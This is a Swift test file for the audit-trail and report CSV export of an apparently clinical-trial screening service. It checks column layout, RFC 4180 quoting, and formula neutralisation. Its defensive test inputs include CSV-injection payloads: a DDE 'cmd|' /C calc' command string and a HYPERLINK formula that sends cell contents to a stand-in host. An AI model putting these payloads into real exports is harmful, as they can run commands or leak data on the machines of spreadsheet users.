import Testing
import TrialGateCore
import TrialGatePolicies
@testable import TrialGateService

/// Reads RFC 4180 CSV back into rows, for the checks below (CI also reads the audit CSV with Python's csv module).
func csvRows(_ text: String) -> [[String]] {
    var rows: [[String]] = []
    var row: [String] = []
    var field = ""
    var quoted = false
    var chars = Array(text)[...]
    while let c = chars.popFirst() {
        if quoted {
            if c == "\"" {
                if chars.first == "\"" { field.append("\""); chars.removeFirst() } else { quoted = false }
            } else {
                field.append(c)
            }
        } else if c == "\"" {
            quoted = true
        } else if c == "," {
            row.append(field); field = ""
        } else if c == "\r\n" || c == "\n" {
            row.append(field); field = ""
            rows.append(row); row = []
        } else {
            field.append(c)
        }
    }
    if !field.isEmpty || !row.isEmpty { row.append(field); rows.append(row) }
    return rows
}

@Suite("Audit CSV: site, the corrected event's seq, the decision's policy; safe to open in a spreadsheet")
struct AuditTrailCSVTests {
    static let header = ["seq", "timestamp_utc", "actor", "candidate", "action", "field", "old_value", "new_value", "reason",
                         "site", "corrects_seq", "policy"]

    /// The whole log's audit trail as rows keyed by column name, read page by page with `limit`.
    func trail(_ f: Fixture, candidate: String? = nil, limit: Int = 10_000) throws -> [[String: String]] {
        var rows: [[String]] = []
        var next: Int64? = 1
        while let from = next {
            let page = try f.run(.auditTrail(candidate: candidate, from: from, limit: limit))
            let parsed = csvRows(page["csv"]!.stringValue!)
            #expect(parsed.first == Self.header)
            rows += parsed.dropFirst()
            next = page["next_from"]?.intValue.map(Int64.init)
        }
        return rows.map { Dictionary(uniqueKeysWithValues: zip(Self.header, $0)) }
    }

    @Test("the new columns come after the nine that users read, and every row has all twelve")
    func columns() throws {
        let csv = try ReportTests().demo().run(.auditTrail(candidate: nil, from: 1, limit: 10_000))["csv"]!.stringValue!
        let rows = csvRows(csv)
        #expect(rows[0] == Self.header)
        #expect(rows.allSatisfy { $0.count == 12 })
    }

    @Test("a correction's row names the event it corrects; a decision's rows, and only they and publications, name the policy")
    func correctsSeqAndPolicy() throws {
        let f = try ReportTests().demo()
        let ki67 = try f.store.events(candidate: "NET-012").first { $0.type == .ki67Recorded }!
        let rows = try trail(f, candidate: "NET-012")
        let correction = rows.first { $0["action"] == "entry.corrected" }
        #expect(correction?["corrects_seq"] == String(ki67.seq) && correction?["field"] == "percent")
        #expect(rows.filter { $0["action"] != "entry.corrected" }.allSatisfy { $0["corrects_seq"] == "" })
        let decisionRows = rows.filter { $0["action"] == "decision.issued" }
        let policy = decisionRows.first { $0["field"] == "policy" }?["new_value"]
        #expect(policy?.hasPrefix("sanet-ep@") == true)
        #expect(!decisionRows.isEmpty && decisionRows.allSatisfy { $0["policy"] == policy })
        #expect(rows.filter { $0["action"] != "decision.issued" }.allSatisfy { $0["policy"] == "" })
        let whole = try trail(f)
        #expect(whole.first { $0["action"] == "policy.published" }?["policy"] == policy)
    }

    @Test("site is where the candidate was at each event: a move shows the new site from its own row on, on every page", arguments: [1, 3, 10_000])
    func siteFollowsMoves(limit: Int) throws {
        let f = try Fixture(policy: ShippedPolicies.sanetEP)
        let registration = Int64(try f.run(.register(candidate: "C-1", fields: ["site": "SITE-01"]))["seq"]!.intValue!)
        try f.run(.register(candidate: "C-2", fields: ["site": "SITE-03"]))
        try f.run(.queryOpen(candidate: "C-1", criterion: nil, text: "before the move"))
        let move = Int64(try f.run(.correct(seq: registration, field: "site", value: "SITE-02", reason: "screened at the other site"))["seq"]!.intValue!)
        try f.run(.queryOpen(candidate: "C-1", criterion: nil, text: "after the move"))
        for rows in [try trail(f, limit: limit), try trail(f, candidate: "C-1", limit: limit)] {
            let c1 = rows.filter { $0["candidate"] == "C-1" }
            #expect(c1.filter { Int64($0["seq"]!)! < move }.allSatisfy { $0["site"] == "SITE-01" })
            #expect(c1.filter { Int64($0["seq"]!)! >= move }.allSatisfy { $0["site"] == "SITE-02" })
            #expect(c1.first { $0["action"] == "entry.corrected" }?["corrects_seq"] == String(registration))
            #expect(rows.filter { $0["candidate"] == "C-2" }.allSatisfy { $0["site"] == "SITE-03" })
            #expect(rows.filter { $0["candidate"] == "" }.allSatisfy { $0["site"] == "" })
        }
    }

    @Test("commas, quotes and newlines are quoted per RFC 4180 and read back as typed; formulas get a leading apostrophe, numbers do not")
    func quotingAndFormulas() throws {
        let f = try Fixture(policy: ShippedPolicies.sanetEP)
        let registration = Int64(try f.run(.register(candidate: "C-1", fields: ["site": "SITE-01"]))["seq"]!.intValue!)
        let texts = ["a, \"quoted\" word\nand a second line", "=HYPERLINK(\"http://example.invalid\",\"x\")", "+1+cmd|' /C calc'!A0",
                     "-2+3", "@SUM(A1)", "'already an apostrophe", "plain"]
        for t in texts { try f.run(.queryOpen(candidate: "C-1", criterion: nil, text: t)) }
        try f.run(.correct(seq: registration, field: "consent_date", value: "2026-06-01", reason: "=1+1 typed by mistake"))
        let csv = try f.run(.auditTrail(candidate: "C-1", from: 1, limit: 10_000))["csv"]!.stringValue!
        #expect(csv.contains("\"a, \"\"quoted\"\" word\nand a second line\""))
        let values = try trail(f, candidate: "C-1").filter { $0["field"] == "text" }.compactMap { $0["new_value"] }
        #expect(values == ["a, \"quoted\" word\nand a second line", "'=HYPERLINK(\"http://example.invalid\",\"x\")", "'+1+cmd|' /C calc'!A0",
                           "'-2+3", "'@SUM(A1)", "''already an apostrophe", "plain"])
        #expect(try trail(f, candidate: "C-1").first { $0["action"] == "entry.corrected" }?["reason"] == "'=1+1 typed by mistake")
    }

    @Test("the report's CSV neutralises formulas too: a withdrawal reason reaches the sponsor's spreadsheet as text")
    func reportCSVNeutralised() throws {
        let f = try Fixture(policy: ShippedPolicies.sanetEP)
        try f.run(.register(candidate: "C-1", fields: ["site": "SITE-01"]))
        try f.run(.withdraw(candidate: "C-1", category: .other, reason: "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")"))
        try f.run(.register(candidate: "C-2", fields: ["site": "SITE-01"]))
        try f.run(.withdraw(candidate: "C-2", category: .other, reason: "-2+3+cmd|' /C calc'!A0"))
        let csv = try f.run(.report(asOfSeq: nil, asOfTime: nil, site: nil, from: nil, to: nil, format: "csv"))["csv"]!.stringValue!
        let rows = csvRows(csv)
        let reason = try #require(rows.first?.firstIndex(of: "withdrawal_reason"))
        #expect(rows.dropFirst().map { $0[reason] } == ["'=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")", "'-2+3+cmd|' /C calc'!A0"])
        #expect(rows.dropFirst().allSatisfy { $0.allSatisfy { cell in !["=", "+", "@"].contains(cell.first.map(String.init) ?? "") } })
    }

    @Test("a cell is neutralised exactly when a spreadsheet would read a formula, and the rule reverses", arguments: [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("'x", "''x"),
        ("-5", "-5"), ("-0.25", "-0.25"), ("-1e-3", "-1e-3"), ("-", "'-"), ("-1.", "'-1."), ("a=b", "a=b"), ("", ""), ("2026-07-01", "2026-07-01"),
    ])
    func neutralised(cell: String, expected: String) {
        let out = SpreadsheetCell.neutralised(cell)
        #expect(out == expected)
        #expect((out.hasPrefix("'") ? String(out.dropFirst()) : out) == cell)
    }
}
